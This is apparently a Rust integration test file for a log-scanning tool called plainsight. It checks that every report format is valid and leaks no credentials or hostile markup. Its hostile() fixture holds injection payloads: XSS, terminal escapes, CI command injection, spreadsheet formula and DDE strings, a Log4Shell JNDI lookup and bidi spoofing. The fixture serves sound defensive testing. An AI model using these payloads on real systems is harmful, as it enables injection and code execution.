//! Every output: what it looks like, that the tools it is made for can read it, and that nothing hostile and no
//! credential gets through.

#![allow(clippy::unwrap_used, clippy::panic)] // a test says what is wrong by panicking

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const NOW: &str = "2026-11-21T00:00:00Z";

/// All but the stream, which is not made of the finished report.
const FORMATS: &[&str] = &[
    "table",
    "json",
    "sarif",
    "html",
    "markdown",
    "github",
    "junit",
    "csv",
    "codequality",
    "openmetrics",
];

struct Run {
    dir: tempfile::TempDir,
}

impl Run {
    fn new() -> Run {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("key"), "0123456789abcdef0123456789abcdef").unwrap();
        Run { dir }
    }

    fn file(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
        let path = self.dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, content).unwrap();
        path
    }

    fn command(&self, format: &str, inputs: &[&Path]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_plainsight"));
        command
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .env_remove("GITHUB_STEP_SUMMARY")
            .args(["scan", "--now", NOW, "-f", format, "--fingerprint-key-file"])
            .arg(self.dir.path().join("key"))
            .args(inputs);
        command
    }

    fn output(&self, format: &str, inputs: &[&Path]) -> Output {
        self.command(format, inputs).output().unwrap()
    }

    fn text(&self, format: &str, inputs: &[&Path]) -> String {
        let out = self.output(format, inputs);
        assert!(
            !out.stdout.is_empty(),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    fn json(&self, format: &str, inputs: &[&Path]) -> serde_json::Value {
        serde_json::from_str(&self.text(format, inputs)).unwrap()
    }

    /// What attackers can write: into paths, names, Referers, user agents and, where the system lets them, names
    /// of files.
    fn hostile(&self) -> PathBuf {
        let token = "q9Zt7LmK2vX8bN4cR6yW1sD3fG5hJ0pA";
        let github = plainsight::rule::example::line("ghp_{alnum:36}");
        let bad = [
            "\x1b]0;owned\x07\x1b[31m",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "`**bold**`[a](http://evil.example)![i](http://evil.example/x.png)|b|<!--",
            "::error file=x,line=1::owned%0A::set-output name=a::b",
            "##[error]owned ##vso[task.complete result=Succeeded]",
            "=HYPERLINK(\"http://evil.example\")",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "\u{202e}gnp.exe\u{2066}\u{200b}",
            "]]></system-out><x>&#x1b;",
            "{{7*7}} ${jndi:ldap://evil.example/a} {% raw %}",
        ];
        let mut log = String::new();
        for (i, bad) in bad.iter().enumerate() {
            let name = bad.replace([' ', '&', '?', '#'], "_");
            log.push_str(&format!(
                "192.0.2.{i} - - [01/Jan/2026:00:00:0{} +0000] \"GET /{bad}/login?password=Zq81kfUwe_x&{name}={github} HTTP/1.1\" 200 1 \"https://{bad}.example/{bad}?token={token}\" \"{bad}\"\n",
                i % 10
            ));
            log.push_str(&format!("{bad} {name}={github} password={token}\n"));
        }
        let name = if cfg!(unix) {
            "in/=evil\x1b[31m<b>`|,::error::.log"
        } else {
            "in/hostile.log"
        };
        self.file(name, log);
        self.file("in/cut<i>.gz", b"\x1f\x8b\x08\x00nothing");
        self.dir.path().join("in")
    }
}

fn demo() -> &'static Path {
    Path::new("fixtures/demo/nginx/access.log")
}

#[test]
fn each_output_of_the_demo() {
    let run = Run::new();
    for format in FORMATS.iter().filter(|f| **f != "json") {
        let mut text = run.text(format, &[demo()]);
        if *format == "html" {
            // Style and script are files of their own, and their hashes follow them.
            for (from, to) in [
                ("<style>", "</style>"),
                ("<script>", "</script>"),
                ("style-src", "\">"),
            ] {
                let start = text.find(from).unwrap() + from.len();
                let end = start + text[start..].find(to).unwrap();
                text.replace_range(start..end, "…");
            }
        }
        insta::assert_snapshot!(*format, text);
    }
}

#[test]
fn json_of_the_demo() {
    let mut report = Run::new().json("json", &[demo()]);
    // What merge needs is no contract.
    report.as_object_mut().unwrap().remove("state");
    insta::assert_snapshot!("json", serde_json::to_string_pretty(&report).unwrap());
}

fn assert_valid(schema: &serde_json::Value, document: &serde_json::Value) {
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(schema)
        .unwrap();
    let errors: Vec<String> = validator
        .iter_errors(document)
        .map(|e| format!("{}: {e}", e.instance_path()))
        .take(5)
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

/// Forbids what the schema does not name, so that no key goes undescribed; each key has to have words.
fn strict(schema: &mut serde_json::Value) {
    if let Some(all) = schema.as_object_mut() {
        if all.contains_key("properties") && !all.contains_key("additionalProperties") {
            all.insert("additionalProperties".into(), false.into());
        }
        if let Some(properties) = all.get("properties").and_then(|p| p.as_object()) {
            for (key, of) in properties {
                let told = ["description", "$ref", "const"]
                    .iter()
                    .any(|k| of.get(k).is_some());
                assert!(told, "{key} is not described");
            }
        }
    }
    match schema {
        serde_json::Value::Object(all) => all.values_mut().for_each(strict),
        serde_json::Value::Array(all) => all.iter_mut().for_each(strict),
        _ => {}
    }
}

#[test]
fn json_is_what_its_schema_says_and_nothing_else() {
    let run = Run::new();
    let out = Command::new(env!("CARGO_BIN_EXE_plainsight"))
        .arg("schema")
        .output()
        .unwrap();
    let mut schema: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(jsonschema::meta::is_valid(&schema));
    strict(&mut schema);
    let formats = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/formats");
    for input in [demo(), &run.hostile(), &formats, &run.file("empty.log", "")] {
        assert_valid(&schema, &run.json("json", &[input]));
    }
    let part = run.file("part.json", run.text("json", &[demo()]));
    let merged = Command::new(env!("CARGO_BIN_EXE_plainsight"))
        .args(["merge", "-f", "json"])
        .arg(part)
        .output()
        .unwrap();
    assert_valid(&schema, &serde_json::from_slice(&merged.stdout).unwrap());
    // It tells what is wrong, too.
    let mut wrong = run.json("json", &[demo()]);
    wrong["findings"][0]["severity"] = "dire".into();
    assert!(!jsonschema::is_valid(&schema, &wrong));
}

#[test]
fn sarif_is_what_its_schema_and_code_scanning_ask_for() {
    let run = Run::new();
    let formats = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/formats");
    // The patterns of SARIF's `language`, which is never written, have an unmatched bracket.
    let schema = include_str!("schemas/sarif-2.1.0.json").replace("{2}]?$", "{2}$");
    let schema = serde_json::from_str(&schema).unwrap();
    for input in [demo(), &run.hostile(), &formats, &run.file("empty.log", "")] {
        let log = run.json("sarif", &[input]);
        assert_valid(&schema, &log);
        let scan = &log["runs"][0];
        let report = run.json("json", &[input]);
        let findings = report["findings"].as_array().unwrap();
        let results = scan["results"].as_array().unwrap();
        let rules = scan["tool"]["driver"]["rules"].as_array().unwrap();
        assert_eq!(results.len(), findings.len());
        assert_eq!(
            scan["invocations"][0]["executionSuccessful"],
            report["summary"]["complete"]
        );
        let mut used = std::collections::BTreeSet::new();
        for (result, finding) in results.iter().zip(findings) {
            let rule = &rules[result["ruleIndex"].as_u64().unwrap() as usize];
            assert_eq!(rule["id"], result["ruleId"]);
            used.insert(rule["id"].as_str().unwrap());
            let score: f64 = rule["properties"]["security-severity"]
                .as_str()
                .unwrap()
                .parse()
                .unwrap();
            // What code scanning shows is the rule's: never under that of one of its findings.
            let least = match finding["severity"].as_str().unwrap() {
                "critical" => 9.1,
                "high" => 7.0,
                "medium" => 4.0,
                "low" => 0.1,
                _ => 0.0,
            };
            assert!(score >= least);
            assert_eq!(
                result["partialFingerprints"]["plainsightFinding/v1"],
                finding["id"]
            );
            let at = &result["locations"][0]["physicalLocation"];
            let uri = at["artifactLocation"]["uri"].as_str().unwrap();
            assert!(
                uri.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"-._~%/!$&'()*+,;=@".contains(&b)),
                "{uri}"
            );
            // Entries and rows have no line; the first stands for them.
            let line = finding["evidence"][0]["line"].as_u64().unwrap_or(1);
            assert_eq!(at["region"]["startLine"], line);
        }
        assert!(rules.is_sorted_by_key(|r| r["id"].as_str()) && used.len() == rules.len());
    }
}

#[test]
fn what_was_not_read_is_said_in_every_output() {
    let run = Run::new();
    run.file(
        "in/access.log",
        "192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1\n",
    );
    run.file("in/archive.7z", b"7z\xbc\xaf\x27\x1c0000");
    for format in FORMATS {
        let out = run.output(format, &[&run.dir.path().join("in")]);
        let text = String::from_utf8(out.stdout).unwrap();
        let said = match *format {
            "openmetrics" => text.contains("plainsight_complete 0\n"),
            // It has a place for findings alone; the exit code tells.
            "csv" => true,
            _ => text.contains("archive.7z"),
        };
        assert!(said && out.status.code() == Some(2), "{format}: {text}");
    }
}

#[test]
fn junit_keeps_to_its_schema() {
    let schema = std::fs::read_to_string("tests/schemas/junit.xsd").unwrap();
    let schema = uppsala::XsdValidator::from_schema(&uppsala::parse(&schema).unwrap()).unwrap();
    let run = Run::new();
    for input in [
        demo(),
        &run.hostile(),
        &run.file("empty.log", ""),
        Path::new("no-such-folder"),
    ] {
        let text = run.text("junit", &[input]);
        let errors = schema.validate(&uppsala::parse(&text).unwrap());
        assert!(errors.is_empty(), "{errors:?}");
        // A schema that lets everything pass would prove nothing.
        for (right, wrong) in [
            ("testsuites name", "testsuites nome"),
            ("tests=\"", "tests=\"-"),
            ("<testcase ", "<testcase tests=\"1\" "),
        ] {
            let broken = text.replacen(right, wrong, 1);
            assert!(
                broken == text || !schema.validate(&uppsala::parse(&broken).unwrap()).is_empty(),
                "{wrong}"
            );
        }
    }
}

#[test]
fn junit_has_counts_that_are_those_of_its_cases() {
    use quick_xml::events::Event;
    let run = Run::new();
    for input in [demo(), &run.hostile(), &run.file("empty.log", "")] {
        let text = run.text("junit", &[input]);
        let mut reader = quick_xml::Reader::from_str(&text);
        let mut open: Vec<String> = Vec::new();
        // Tests, failures and errors: as said by all, by the suites together, and as counted.
        let (mut said, mut suites, mut counted) = ([0; 3], [0; 3], [0; 3]);
        loop {
            let event = reader.read_event().unwrap();
            match &event {
                Event::Start(e) => {
                    let parent = open.last().map(String::as_str);
                    let name = e.name().as_ref().to_string();
                    let numbers = || {
                        ["tests", "failures", "errors"].map(|key| {
                            let value = e.try_get_attribute(key).unwrap().unwrap().value;
                            value.parse::<u64>().unwrap()
                        })
                    };
                    match (parent, name.as_str()) {
                        (None, "testsuites") => said = numbers(),
                        (Some("testsuites"), "testsuite") => {
                            let more = numbers();
                            (0..3).for_each(|i| suites[i] += more[i]);
                        }
                        (Some("testsuite"), "testcase") => {
                            assert!(e.try_get_attribute("name").unwrap().is_some());
                            assert!(e.try_get_attribute("classname").unwrap().is_some());
                            counted[0] += 1;
                        }
                        (Some("testcase"), "failure") => counted[1] += 1,
                        (Some("testcase"), "error") => counted[2] += 1,
                        (Some("testcase"), "system-out") => {}
                        other => panic!("{other:?}"),
                    }
                    open.push(name);
                }
                Event::End(_) => drop(open.pop()),
                Event::Eof => break,
                _ => {}
            }
        }
        assert!(open.is_empty() && said == suites && said == counted && said[0] > 0);
        let report = run.json("json", &[input]);
        assert_eq!(report["gate"]["failing"], said[1]);
    }
}

#[test]
fn nothing_hostile_gets_through() {
    let run = Run::new();
    let input = run.hostile();
    let report = run.json("json", &[&input]);
    assert!(report["findings"].as_array().unwrap().len() > 10);
    for format in FORMATS.iter().chain(&["ndjson"]) {
        let out = run.output(format, &[&input]);
        for text in [out.stdout, out.stderr] {
            let text = String::from_utf8(text).unwrap();
            let hidden = |c: char| {
                c.is_control()
                    || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
            };
            let ends = if *format == "csv" { "\r\n" } else { "\n" };
            let bad: Vec<char> = text
                .replace(ends, "")
                .replace('\n', "")
                .chars()
                .filter(|c| hidden(*c))
                .collect();
            assert!(bad.is_empty(), "{format}: {bad:?}");
            for start in ["##[", "##vso["] {
                assert!(!text.contains(start), "{format}: a command of a build server");
            }
            if *format != "github" {
                assert!(
                    !text.lines().any(|l| l.trim_start().starts_with("::")),
                    "{format}"
                );
            }
        }
    }
}

#[test]
fn no_cell_is_a_formula() {
    let run = Run::new();
    let text = run.text("csv", &[&run.hostile()]);
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert!(rows.len() > 10 && rows[0].iter().any(|c| c == "severity"));
    for cell in rows.iter().flatten() {
        let formula =
            cell.starts_with(['=', '+', '@', '\t', '\r']) || cell.starts_with('-') && cell.len() > 1;
        assert!(!formula, "{cell:?}");
    }
}

#[test]
fn markdown_holds_no_markup_of_a_log() {
    use comrak::nodes::NodeValue;
    let run = Run::new();
    let text = run.text("markdown", &[&run.hostile()]);
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, &text, &options);
    let mut columns = 0;
    for node in root.descendants() {
        match &node.data.borrow().value {
            NodeValue::Link(l) => panic!("a link to {}", l.url),
            NodeValue::Image(l) => panic!("an image of {}", l.url),
            NodeValue::HtmlBlock(h) => panic!("HTML: {}", h.literal),
            NodeValue::HtmlInline(h) => {
                assert!(["<br>", "<span>", "</span>"].contains(&h.as_str()), "HTML: {h}");
            }
            NodeValue::Table(t) => columns = columns.max(t.num_columns),
            NodeValue::Strong => {
                let text: String = node
                    .descendants()
                    .filter_map(|n| match &n.data.borrow().value {
                        NodeValue::Text(t) => Some(t.to_string()),
                        _ => None,
                    })
                    .collect();
                assert!(!text.starts_with("bold"), "{text}");
            }
            _ => {}
        }
    }
    assert_eq!(columns, 7);
}

#[test]
fn annotations_are_commands_with_the_properties_that_were_meant() {
    let run = Run::new();
    let text = run.text("github", &[&run.hostile()]);
    assert!(text.lines().count() > 10);
    for line in text.lines() {
        // As the runner reads it: the command up to the first space, properties up to `::`, the message.
        let (head, message) = line.strip_prefix("::").unwrap().split_once("::").unwrap();
        let (command, properties) = head.split_once(' ').unwrap();
        assert!(
            ["error", "warning", "notice"].contains(&command) && !message.is_empty(),
            "{line}"
        );
        let names: Vec<&str> = properties
            .split(',')
            .map(|p| p.split_once('=').unwrap().0)
            .collect();
        assert!(
            [&["title"][..], &["file", "title"], &["file", "line", "title"]].contains(&names.as_slice()),
            "{line}"
        );
    }
}

#[test]
fn html_holds_no_markup_of_a_log_and_asks_for_nothing() {
    let run = Run::new();
    let text = run.text("html", &[&run.hostile()]);
    let (head, rest) = text.split_once("<style>").unwrap();
    let (_, rest) = rest.split_once("</style>").unwrap();
    let (body, script) = rest.rsplit_once("<script>").unwrap();
    assert!(head.contains("default-src 'none'") && !head.contains("unsafe"));
    assert!(script.ends_with("</script>\n</body>\n</html>\n"));
    for bad in ["<script", "<img", "<svg onload", "<x>", "<b>"] {
        assert!(!body.contains(bad), "{bad}");
    }
    // Tags and attributes are the template's own.
    let mut tags = std::collections::BTreeSet::new();
    let mut rest = body;
    while let Some((_, after)) = rest.split_once('<') {
        let (tag, after) = after.split_once('>').unwrap();
        for attribute in tag.split('"').step_by(2).flat_map(str::split_whitespace) {
            let name = attribute.trim_end_matches('=');
            assert!(
                !name.starts_with("on") && name != "src" && name != "style",
                "<{tag}>"
            );
        }
        if let Some((_, link)) = tag.split_once("href=\"") {
            assert!(link.starts_with('#'), "<{tag}>");
        }
        tags.insert(tag.split_whitespace().next().unwrap().trim_start_matches('/'));
        rest = after;
    }
    let known = [
        "a", "body", "br", "button", "code", "dd", "details", "div", "dl", "dt", "fieldset", "footer",
        "form", "g", "h1", "h2", "h3", "head", "header", "input", "label", "legend", "li", "line", "main",
        "mark", "nav", "ol", "option", "p", "path", "pre", "rect", "section", "select", "span", "strong",
        "summary", "svg", "table", "tbody", "td", "text", "th", "thead", "time", "title", "tr", "ul",
    ];
    let strange: Vec<&&str> = tags.iter().filter(|t| !known.contains(t)).collect();
    assert!(strange.is_empty(), "{strange:?}");
}

#[test]
fn the_job_summary_gets_the_markdown_report() {
    let run = Run::new();
    let summary = run.file("summary.md", "before\n");
    let out = run
        .command("github", &[demo()])
        .env("GITHUB_STEP_SUMMARY", &summary)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = std::fs::read_to_string(&summary).unwrap();
    assert_eq!(text, format!("before\n{}", run.text("markdown", &[demo()])));
}

#[test]
fn a_job_summary_that_cannot_be_written_changes_no_exit_code() {
    let run = Run::new();
    let clean = run.file("clean.log", "nothing\n");
    for (input, code) in [(demo(), 1), (clean.as_path(), 0)] {
        let out = run
            .command("github", &[input])
            .env("GITHUB_STEP_SUMMARY", "no/such/file")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(code));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("GITHUB_STEP_SUMMARY"), "{err}");
    }
}

#[test]
fn no_output_holds_a_credential() {
    let run = Run::new();
    let rules = plainsight::rule::builtin().unwrap();
    let examples: Vec<String> = rules
        .iter()
        .flat_map(|r| &r.examples)
        .map(|e| plainsight::rule::example::line(e))
        .collect();
    let log = run.file("examples.log", examples.join("\n"));
    // What examples make up, by the run of random characters in it.
    let probes: Vec<&str> = examples
        .iter()
        .flat_map(|l| l.split(|c: char| !c.is_ascii_alphanumeric()))
        .filter(|p| p.len() >= 24)
        .map(|p| &p[8..20])
        .collect();
    assert!(probes.len() > 100);
    for format in FORMATS.iter().chain(&["ndjson"]) {
        let out = run.output(format, &[&log]);
        let all = String::from_utf8([out.stdout, out.stderr].concat()).unwrap();
        let shown: Vec<&&str> = probes.iter().filter(|p| all.contains(**p)).collect();
        let lines: Vec<&String> = shown
            .iter()
            .filter_map(|p| examples.iter().find(|l| l.contains(**p)))
            .collect();
        assert!(lines.is_empty(), "{format} shows credentials of {lines:#?}");
    }
}

#[test]
fn long_reports_are_cut_and_say_so() {
    let run = Run::new();
    let lines: String = (0..5_010)
        .map(|n: u32| {
            // Letters alone: numbers in routes fold.
            let route: String = n.to_string().bytes().map(|b| char::from(b + 49)).collect();
            format!(
                "192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] \"GET /{route}/login?password=Zq81kfUwe_{n} HTTP/1.1\" 200 1\n"
            )
        })
        .collect();
    let log = run.file("access.log", lines);
    let sarif = run.json("sarif", &[&log]);
    let scan = &sarif["runs"][0];
    assert_eq!(scan["results"].as_array().unwrap().len(), 5_000);
    let note = &scan["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"];
    assert!(
        note.as_str().unwrap().contains("5000 worst of 5010 findings"),
        "{note}"
    );
    for (format, text) in [
        ("html", "The 2000 worst findings are listed, 3,010 more"),
        ("markdown", "and 4,910 more findings"),
        ("github", "The 50 worst of 5,010 findings"),
    ] {
        assert!(run.text(format, &[&log]).contains(text), "{format}");
    }
    // What other programs read whole has all of them.
    assert_eq!(run.text("csv", &[&log]).lines().count(), 5_011);
    assert_eq!(run.json("codequality", &[&log]).as_array().unwrap().len(), 5_010);
}

#[test]
fn openmetrics_names_each_family_once_and_ends() {
    let text = Run::new().text("openmetrics", &[demo()]);
    assert!(text.ends_with("\n# EOF\n"));
    let families: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("# TYPE ")?.split(' ').next())
        .collect();
    let distinct: std::collections::BTreeSet<&&str> = families.iter().collect();
    assert_eq!(distinct.len(), families.len());
    // A family's samples stand together behind its type.
    let mut family = "";
    for line in text.lines().filter(|l| *l != "# EOF") {
        if let Some(of) = line.strip_prefix("# TYPE ") {
            family = of.split(' ').next().unwrap();
        } else {
            let name = line.trim_start_matches("# HELP ").trim_start_matches("# UNIT ");
            let name = name.split(['{', ' ']).next().unwrap();
            assert!(name == family || name == format!("{family}_info"), "{line}");
        }
    }
}
